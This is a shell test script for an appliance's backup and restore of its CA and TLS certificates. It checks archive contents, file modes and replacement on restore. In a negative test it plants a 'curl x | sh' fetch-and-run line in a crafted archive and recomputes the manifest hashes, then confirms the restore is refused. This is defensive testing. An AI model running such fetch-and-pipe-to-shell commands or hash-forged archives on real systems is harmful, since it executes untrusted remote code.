#!/bin/sh
# The appliance CA and the operators' certificates in a backup: packed as
# one part (only the CA's two files and the stored certificates and keys),
# and on restore swapped in whole over a fresh box's own CA and certificates
# (a certificate the archive does not hold goes); a crafted part with any
# other entry is refused with nothing changed; a box with neither leaves the
# part out.
. "$top_srcdir/tests/lib.sh"
. "$top_srcdir/tests/backup-lib.sh"
skip_unless openssl
PY=${PYTHON3:-python3}

backup_profile
# ca DIR CN: a CA's two files as the appliance keeps them.
ca() {
	mkdir -p "$1" && chmod 700 "$1"
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$1/ca.key" \
		-out "$1/ca.crt" -days 3650 -subj "/CN=$2" 2>/dev/null && chmod 600 "$1/ca.key"
}
# leaf STORE KIND NAME HOST CADIR: an operator's certificate in the store.
leaf() {
	mkdir -p "$1/$2" && chmod 700 "$1" "$1/$2"
	openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$1/$2/$3.key" \
		-subj "/CN=$4" -addext "subjectAltName=DNS:$4" -out "$T/leaf.csr" 2>/dev/null &&
		openssl x509 -req -in "$T/leaf.csr" -CA "$5/ca.crt" -CAkey "$5/ca.key" -days 90 \
			-copy_extensions copy -out "$1/$2/$3.crt" 2>/dev/null && chmod 600 "$1/$2/$3.key"
}

R=$T/box1 A1=$T/a
backup_box "$R" 1.2.0
mkdir -p "$A1"
"$OUTPOST" --state "$A1/state.db" tenant add acme --host acme.example.com >/dev/null
expect_true "the first box's CA" -- ca "$A1/ca" "Outpost appliance CA one"
expect_true "an operator's certificate for tenant acme" -- leaf "$A1/tls" tenant acme acme.example.com "$A1/ca"
expect_true "and a wildcard's for example.com" -- leaf "$A1/tls" domain example.com '*.example.com' "$A1/ca"

expect_exit 0 "backup" -- "$OUTPOST" --state "$A1/state.db" backup --root "$R"
ARCHIVE=$(cat "$T/out")
tar tzf "$ARCHIVE" >"$T/list"
expect_grep "^tls/certificates.tar$" "$T/list" "the archive holds the certificates' part"
mkdir "$T/x" && tar xzf "$ARCHIVE" -C "$T/x"
tar tf "$T/x/tls/certificates.tar" | sort | tr '\n' ' ' >"$T/inner"
expect_grep "^ca/ ca/ca.crt ca/ca.key tls/ tls/domain/ tls/domain/example.com.crt tls/domain/example.com.key tls/tenant/ tls/tenant/acme.crt tls/tenant/acme.key $" \
	"$T/inner" "it holds the CA's two files and the stored certificates and keys, nothing else"
grep -q "BEGIN .*PRIVATE KEY" "$T/out" "$T/err" && not_ok "a key in the output" || ok "no key in the output"

# A fresh box has made a CA of its own and holds a certificate the old one never had.
R2=$T/box2 B=$T/b
backup_box "$R2" 1.2.0
ca "$B/ca" "Outpost appliance CA two"
leaf "$B/tls" tenant stray stray.example.com "$B/ca"
expect_exit 0 "restore on the fresh box" -- "$OUTPOST" --state "$B/state.db" restore "$ARCHIVE" --root "$R2"
expect_true "the CA's key is the first box's" -- cmp -s "$A1/ca/ca.key" "$B/ca/ca.key"
expect_true "and its certificate" -- cmp -s "$A1/ca/ca.crt" "$B/ca/ca.crt"
expect_true "the operators' certificates are back" -- \
	cmp -s "$A1/tls/tenant/acme.crt" "$B/tls/tenant/acme.crt"
expect_true "and the wildcard's key" -- cmp -s "$A1/tls/domain/example.com.key" "$B/tls/domain/example.com.key"
[ "$(stat -c %a "$B/ca" "$B/ca/ca.key" "$B/tls" "$B/tls/tenant/acme.key" | tr '\n' ' ')" = "700 600 700 600 " ] &&
	ok "directories 0700, files 0600" || not_ok "modes $(stat -c '%n %a' "$B/ca" "$B/ca/ca.key" "$B/tls" "$B/tls/tenant/acme.key")"
expect_true "the certificate the archive does not hold is gone" -- test ! -e "$B/tls/tenant/stray.crt"
expect_exit 0 "outpost tls list reads the restored store" -- "$OUTPOST" --state "$B/state.db" tls list
expect_grep "^tenant  *acme " "$T/out" "tls list shows acme's certificate"
expect_grep "^domain  *example.com " "$T/out" "and the wildcard"
expect_true "no work directory is left" -- test -z "$(find "$B" -name '.outpost-*')"
expect_exit 0 "restore again: the same result" -- "$OUTPOST" --state "$B/state.db" restore "$ARCHIVE" --root "$R2"
expect_true "same CA" -- cmp -s "$A1/ca/ca.key" "$B/ca/ca.key"

# A crafted part (hashes fixed up): refused before anything is replaced.
cp "$B/ca/ca.key" "$T/key.before"
mkdir -p "$T/evil/ca" && cp "$A1/ca/ca.crt" "$T/evil/ca/" && echo 'curl x | sh' >"$T/evil/ca/run.sh"
(cd "$T/evil" && tar cf "$T/x/tls/certificates.tar" ca)
"$PY" - "$T/x" <<'PY'
import hashlib, json, sys
d = sys.argv[1]
m = json.load(open(d + "/manifest.json"))
for p in m["parts"]:
    p["sha256"] = hashlib.sha256(open(d + "/" + p["name"], "rb").read()).hexdigest()
json.dump(m, open(d + "/manifest.json", "w"))
PY
(cd "$T/x" && tar czf "$T/evil.tar.gz" $(cat "$T/list"))
expect_exit 3 "an archive whose certificates' part holds anything else is refused" -- \
	"$OUTPOST" --state "$B/state.db" restore "$T/evil.tar.gz" --root "$R2"
expect_fgrep "entry 'ca/run.sh'" "$T/err" "the refusal names the entry"
expect_true "the CA was not touched" -- cmp -s "$T/key.before" "$B/ca/ca.key"
expect_true "nothing of it was written" -- test ! -e "$B/ca/run.sh"

# A box with neither directory leaves the part out.
mkdir -p "$T/c"
expect_exit 0 "backup of a box without a CA" -- "$OUTPOST" --state "$T/c/state.db" backup --root "$R" --out "$T/c/out"
expect_fgrep "tls/certificates.tar" "$T/err" "the part is named as left out"
finish
